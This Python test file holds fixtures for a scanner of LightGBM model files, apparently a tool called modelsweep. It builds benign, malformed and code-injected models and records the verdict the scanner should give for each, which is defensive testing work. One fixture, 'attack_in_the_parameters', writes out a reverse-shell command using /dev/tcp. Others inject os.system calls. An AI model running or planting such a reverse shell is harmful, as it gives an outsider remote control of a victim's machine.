"""Models of LightGBM whose children and features lead out of their trees."""

from __future__ import annotations

from collections.abc import Callable

from modelsweep.core.report import Verdict
from tests.scanners.case import Case

HEADER = (
    "tree\nversion={}\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=3\nfeature_names=a b c d\n"
)
PARAMETERS = "parameters:\n[boosting: gbdt]\n[input_model: ]\nend of parameters\n"
PANDAS = "\npandas_categorical:null\n"


def tree(number: int = 0, left: str = "1 -1", right: str = "-2 -3", split: str = "2 1", leaves: str = "3") -> str:
    """Return a tree of three leaves."""
    lines = {
        "Tree": str(number),
        "num_leaves": leaves,
        "num_cat": "0",
        "split_feature": split,
        "threshold": "3.15 1e-35",
        "left_child": left,
        "right_child": right,
        "leaf_value": "0.1 0.2 0.3",
    }
    return "\n" + "".join(f"{key}={value}\n" for key, value in lines.items())


def split_by_category(bounds: str = "0 1", words: str = "5", at: str = "0") -> str:
    """Return a tree whose root splits by category."""
    kinds = f"decision_type=1 2\ncat_boundaries={bounds}\ncat_threshold={words}\n"
    return tree().replace("num_cat=0", "num_cat=1").replace("threshold=3.15", f"threshold={at}") + kinds


STUMP = "\nTree=1\nnum_leaves=1\nnum_cat=0\nleaf_value=0.5\n"


def model(*trees: str, version: str = "v4", end: str = PARAMETERS + PANDAS) -> bytes:
    """Return a model as the Python package saves it."""
    importance = "\nend of trees\n\nfeature_importances:\na=2\n\n"
    return (HEADER.format(version) + "".join(trees or (tree(), STUMP)) + importance + end).encode()


def case(build: Callable[[], bytes], verdict: Verdict, name: str = "model.txt", cut_is_clean: bool = False) -> Case:
    """Return the case of a model."""
    return Case(build, name, verdict, cut_is_clean=cut_is_clean)


CASES = {
    # Without the last line it is what the command line saves
    "benign": case(model, Verdict.CLEAN, cut_is_clean=True),
    "benign_header": case(
        lambda: model().replace(b"=a b c d\n", b"=a b import os.path\nnote=imported from os.path\n"),
        Verdict.CLEAN,
        cut_is_clean=True,
    ),
    "code_in_the_header": case(
        lambda: model().replace(b"label_index=0\n", b"label_index=0\nhook=os.system('echo modelsweep-test')\n"),
        Verdict.REVIEW,
    ),
    "code_in_a_tree": case(
        lambda: model(tree() + "decision_type=<=\nhook=__import__('os').system('echo modelsweep-test')\n"),
        Verdict.REVIEW,
    ),
    "code_in_the_parameters": case(
        lambda: model(end=PARAMETERS.replace("model: ", "model: os.system(1)") + PANDAS),
        Verdict.REVIEW,
        cut_is_clean=True,
    ),
    "attack_in_the_parameters": case(
        lambda: model(end=PARAMETERS.replace("model: ", "model: sh -i >& /dev/tcp/192.0.2.1/9 0>&1") + PANDAS),
        Verdict.REVIEW,
        cut_is_clean=True,
    ),
    "benign_parameters": case(
        lambda: model(end=PARAMETERS.replace("model: ", "model: /data/os.system/model.txt") + PANDAS),
        Verdict.CLEAN,
        cut_is_clean=True,
    ),
    "benign_bin": case(lambda: model(end=PARAMETERS).rstrip(), Verdict.CLEAN, "model.bin"),
    "benign_windows": case(lambda: model(end=PARAMETERS).replace(b"\n", b"\r\n").rstrip(), Verdict.CLEAN, "model.lgb"),
    "benign_old": case(lambda: model(version="v2", end=""), Verdict.CLEAN, cut_is_clean=True),
    "benign_categories": case(
        lambda: model(end=PARAMETERS + "\npandas_categorical:[[0, 1], [2]]"), Verdict.CLEAN, cut_is_clean=True
    ),
    "child": case(lambda: model(tree(left="700 -1")), Verdict.REVIEW),
    "leaf": case(lambda: model(tree(right="-2 -900")), Verdict.REVIEW),
    "feature": case(lambda: model(tree(split="2 4000")), Verdict.REVIEW),
    "child_missing": case(lambda: model(tree(left="1")), Verdict.REVIEW),
    "huge_count": case(lambda: model(tree(leaves="4000000000")), Verdict.REVIEW),
    "no_number": case(lambda: model(tree(left="x -1")), Verdict.NOT_SCANNED),
    "benign_split_by_category": case(lambda: model(split_by_category()), Verdict.CLEAN, cut_is_clean=True),
    "benign_linear": case(
        lambda: model(tree() + "is_linear=1\nleaf_features=0 3  1\n"), Verdict.CLEAN, cut_is_clean=True
    ),
    "benign_no_number": case(lambda: model(tree().replace("0.1 0.2", "nan -inf")), Verdict.CLEAN, cut_is_clean=True),
    "loop": case(lambda: model(tree(left="0 -1")), Verdict.REVIEW),
    "shared_child": case(lambda: model(tree(right="1 -3")), Verdict.REVIEW),
    "category_bounds": case(lambda: model(split_by_category(bounds="0 900")), Verdict.REVIEW),
    "category_bounds_backwards": case(lambda: model(split_by_category(bounds="1 0")), Verdict.REVIEW),
    "category_of_no_split": case(lambda: model(split_by_category(at="70000")), Verdict.REVIEW),
    "linear_feature": case(lambda: model(tree() + "is_linear=1\nleaf_features=0 99\n"), Verdict.REVIEW),
    "zero_in_text": case(lambda: model().replace(b"num_class", b"num\0class"), Verdict.NOT_SCANNED),
    "odd_parameter": case(lambda: model().replace(b"[boosting:", b"[boosting\xde"), Verdict.NOT_SCANNED),
    "odd_threshold": case(lambda: model().replace(b"3.15", b"3\xc415"), Verdict.NOT_SCANNED),
    "without_end": case(lambda: model(end="parameters:\n[boosting: gbdt]\n"), Verdict.NOT_SCANNED),
    "more_behind": case(lambda: model(end=PARAMETERS + "something else\n"), Verdict.NOT_SCANNED, cut_is_clean=True),
}
